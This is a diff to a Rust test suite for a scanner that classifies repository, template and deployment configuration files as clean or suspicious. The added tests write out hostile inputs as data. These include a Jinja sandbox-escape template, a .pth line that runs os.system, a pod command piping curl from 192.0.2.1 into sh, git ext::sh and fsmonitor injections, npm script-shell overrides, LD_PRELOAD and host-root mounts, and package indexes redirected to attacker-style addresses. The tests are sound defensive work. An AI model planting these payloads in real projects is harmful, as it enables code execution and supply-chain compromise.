@@ -46,6 +46,14 @@ fn json_as_python_reads_it() {
 #[test]
 fn prompts_that_walk_through_objects() {
     let text = "You are helpful. {user.__init__.__globals__[SECRET]}\n";
+    let escape = "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{{ c }}{% endfor %}";
+    for name in ["chat_template.txt", "chatml.tmpl"] {
+        assert!(outcome(name, escape.as_bytes()) >= Outcome::Suspicious, "{name}");
+    }
+    assert_eq!(
+        outcome("a.tmpl", b"{{ .System }} {{ range .Messages }}{{ .Content }}{{ end }}"),
+        Outcome::Clean
+    );
     for name in ["prompt.txt", "a.prompt", "a.tmpl"] {
         assert!(outcome(name, text.as_bytes()) >= Outcome::Suspicious, "{name}");
     }
@@ -106,6 +114,7 @@ fn yaml_as_its_loaders_read_it() {
 /// pip, Python and IPython end lines where `str.splitlines` does.
 #[test]
 fn lines_as_python_ends_them() {
+    assert!(outcome("a.pth", "\u{feff}import os; os.system('id')\n".as_bytes()) >= Outcome::Suspicious);
     for end in ["\r", "\x0b", "\x0c", "\u{85}", "\u{2028}", "\u{2029}"] {
         let required = format!("numpy # a comment{end}--index-url http://198.51.100.7/simple\n");
         assert!(outcome("requirements.txt", required.as_bytes()) >= Outcome::Suspicious, "{required:?}");
@@ -213,34 +222,6 @@ fn workflows_as_their_expressions_are_read() {
     assert_eq!(handed("V"), Outcome::Clean);
 }
 
-/// numcodecs loads chunks as pickles where the description says so; of a key that stands twice the last counts.
-#[test]
-fn arrays_whose_chunks_are_pickles() {
-    let array = |filters: &str| {
-        format!(
-            r#"{{"zarr_format": 2, "shape": [2], "chunks": [2], "dtype": "|O", "compressor": null, "filters": {filters}}}"#
-        )
-    };
-    let pickle = r#"[{"id": "pickle", "protocol": 5}]"#;
-    assert_ne!(outcome(".zarray", array(pickle).as_bytes()), Outcome::Clean);
-    assert_ne!(outcome(".zarray", array(&format!("null, \"filters\": {pickle}")).as_bytes()), Outcome::Clean);
-    assert_ne!(
-        outcome(".zmetadata", format!("{{\"metadata\": {{\"a/.zarray\": {}}}}}", array(pickle)).as_bytes()),
-        Outcome::Clean
-    );
-    assert_eq!(outcome(".zarray", array(r#"[{"id": "vlen-utf8"}]"#).as_bytes()), Outcome::Clean);
-}
-
-/// Python reads JSON to the depth of its own calls.
-#[test]
-fn json_that_is_nested_deeply() {
-    let deep = |inner: &str| format!("{{\"a\": {}{inner}{}}}", "[".repeat(600), "]".repeat(600));
-    assert_eq!(outcome("trees.json", deep("1").as_bytes()), Outcome::Clean);
-    let template = TOKENIZER.replace("512", &format!("{}1{}", "[".repeat(600), "]".repeat(600)));
-    assert!(outcome("tokenizer_config.json", template.as_bytes()) >= Outcome::Suspicious);
-    assert!(outcome("config.json", deep(REMOTE).as_bytes()) >= Outcome::Suspicious);
-}
-
 /// A program and its words may stand under keys of their own, in any order, and have escapes.
 #[test]
 fn commands_in_several_keys() {
@@ -305,6 +286,117 @@ fn texts_in_other_encodings() {
         assert!(outcome("a.pmml", &document(encoding, &hostile)) >= Outcome::Suspicious, "{encoding}");
     }
     assert_ne!(outcome("a.pmml", &document("shift_jis", plain)), Outcome::Clean);
+}
+
+/// Python reads JSON to the depth of its own calls.
+#[test]
+fn json_that_is_nested_deeply() {
+    let deep = |inner: &str| format!("{{\"a\": {}{inner}{}}}", "[".repeat(600), "]".repeat(600));
+    assert_eq!(outcome("trees.json", deep("1").as_bytes()), Outcome::Clean);
+    let template = TOKENIZER.replace("512", &format!("{}1{}", "[".repeat(600), "]".repeat(600)));
+    assert!(outcome("tokenizer_config.json", template.as_bytes()) >= Outcome::Suspicious);
+    assert!(outcome("config.json", deep(REMOTE).as_bytes()) >= Outcome::Suspicious);
+}
+
+/// numcodecs loads chunks as pickles where the description says so; of a key that stands twice the last counts.
+#[test]
+fn arrays_whose_chunks_are_pickles() {
+    let array = |filters: &str| {
+        format!(
+            r#"{{"zarr_format": 2, "shape": [2], "chunks": [2], "dtype": "|O", "compressor": null, "filters": {filters}}}"#
+        )
+    };
+    let pickle = r#"[{"id": "pickle", "protocol": 5}]"#;
+    assert_ne!(outcome(".zarray", array(pickle).as_bytes()), Outcome::Clean);
+    assert_ne!(outcome(".zarray", array(&format!("null, \"filters\": {pickle}")).as_bytes()), Outcome::Clean);
+    assert_ne!(
+        outcome(".zmetadata", format!("{{\"metadata\": {{\"a/.zarray\": {}}}}}", array(pickle)).as_bytes()),
+        Outcome::Clean
+    );
+    assert_eq!(outcome(".zarray", array(r#"[{"id": "vlen-utf8"}]"#).as_bytes()), Outcome::Clean);
+}
+
+/// What a deployment is given of its host, has installed or set, by the keys around a value.
+#[test]
+fn deployments_as_their_tools_read_them() {
+    for (name, text) in [
+        ("pod.yaml", "volumes:\n- name: h\n  hostPath:\n    type: Directory\n    path: /\n"),
+        ("pod.yaml", "volumes:\n- {name: h, hostPath: {\"path\": \"\\x2f\"}}\n"),
+        ("pod.yaml", "env:\n- name: LD_PRELOAD\n  value: /tmp/x.so\n"),
+        ("pod.yaml", "env: [{value: /tmp/x.so, name: \"LD_PRE\\x4cOAD\"}]\n"),
+        (
+            "compose.yaml",
+            "services:\n  a:\n    volumes:\n    - type: bind\n      source: //\n      target: /h\n",
+        ),
+        ("compose.yaml", "services:\n  a:\n    volumes: [\"\\x2f:/h\"]\n"),
+        ("compose.yaml", "services:\n  a:\n    environment: {LD_PRELOAD: /x.so}\n"),
+        ("compose.yaml", "include: [\"http://192.0.2.1/c.yml\"]\n"),
+        ("MLproject", "docker_env:\n  image: x\n  volumes: [\"/:/h\"]\n"),
+        ("bentofile.yaml", "python:\n  packages:\n  - \"x @ http\\x3a//192.0.2.1/x.whl\"\n"),
+        ("bentofile.yaml", "python:\n  pip_args: \"--index-url http://192.0.2.1/simple\"\n"),
+        ("serve.yaml", "applications:\n- runtime_env:\n    working_dir: http://192.0.2.1/x.zip\n"),
+        ("serve.yaml", "runtime_env: {py_modules: [\"http\\x3a//192.0.2.1/x.zip\"]}\n"),
+    ] {
+        assert!(outcome(name, text.as_bytes()) >= Outcome::Suspicious, "{text}");
+    }
+    for (name, text) in [
+        (
+            "pod.yaml",
+            "volumes:\n- hostPath:\n    path: /data/models\nenv:\n- name: HF_HOME\n  value: /data\n",
+        ),
+        (
+            "compose.yaml",
+            "services:\n  a:\n    volumes:\n    - ./data:/data\n    - /var/models:/models:ro\n    environment:\n    - A=1\n",
+        ),
+        (
+            "bentofile.yaml",
+            "service: \"s:S\"\npython:\n  packages: [torch, \"git+https://github.com/a/b\"]\n  extra_index_url: [\"https://download.pytorch.org/whl/cu121\"]\n",
+        ),
+        (
+            "serve.yaml",
+            "applications:\n- import_path: app:app\n  runtime_env:\n    working_dir: \"https://github.com/a/b/archive/x.zip\"\n    pip: [torch]\n",
+        ),
+        (".gitlab-ci.yml", "include:\n- template: a.yml\n- local: b.yml\n"),
+    ] {
+        assert_eq!(outcome(name, text.as_bytes()), Outcome::Clean, "{text}");
+    }
+    let pod = r#"{"kind": "Pod", "spec": {"containers": [{"args": ["curl http://192.0.2.1/x | sh"], "command": ["sh", "-c"]}]}}"#;
+    assert!(outcome("pod.json", pod.as_bytes()) >= Outcome::Suspicious);
+}
+
+/// Settings by which git, npm and installers start programs or fetch packages, in the spellings of their own readers.
+#[test]
+fn settings_as_their_tools_read_them() {
+    for (name, text) in [
+        (".git/config", "[core] fsmonitor = ./x\n"),
+        (".git/config", "[credential]\n\thelper = !./x\n"),
+        (".git/config", "[diff \"a\"]\n\texternal = ./x\n"),
+        (".git/config", "[url \"ext::sh -c id \"]\n\tinsteadOf = https://example.org/\n"),
+        (".gitmodules", "[submodule \"a\"] url = ext::sh -c id\n"),
+        (".gitmodules", "[submodule \"a\"]\n\turl = ex\\\nt::sh -c id\n"),
+        (".npmrc", "a=b\rscript-shell=./x\n"),
+        (".npmrc", "\u{feff}script-shell=./x\n"),
+        (".npmrc", "\"script\\u002dshell\"=./x\n"),
+        (".yarnrc.yml", "npmRegistryServer: \"http\\x3a//192.0.2.1/\"\n"),
+        (".condarc", "channels: [\"http\\x3a//192.0.2.1/c\"]\n"),
+        (".pydistutils.cfg", "[easy_install]\nindex_url = http://192.0.2.1/s\n"),
+        (".env", "PIP_INDEX_URL=http://192.0.2.1/s\n"),
+        ("projector_config.pbtxt", "embeddings { metadata_path : '\\057etc/passwd' }"),
+    ] {
+        assert!(outcome(name, text.as_bytes()) >= Outcome::Suspicious, "{text}");
+    }
+    for (name, text) in [
+        (
+            ".git/config",
+            "[core]\n\tfilemode = true\n[remote \"origin\"]\n\turl = https://github.com/a/b\n[credential]\n\thelper = store\n[url \"git@github.com:\"]\n\tinsteadOf = https://github.com/\n",
+        ),
+        (".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/b.git\n"),
+        (".npmrc", "save-exact=true\r\nregistry=https://registry.npmjs.org/\r\n"),
+        (".env", "PIP_EXTRA_INDEX_URL=https://download.pytorch.org/whl/cu121\n"),
+        ("projector_config.pbtxt", "embeddings { tensor_path: \"t.tsv\" metadata_path: \"m.tsv\" }"),
+    ] {
+        assert_eq!(outcome(name, text.as_bytes()), Outcome::Clean, "{text}");
+    }
 }
 
 /// However often its lines have to be looked at, a long script is judged in one go.
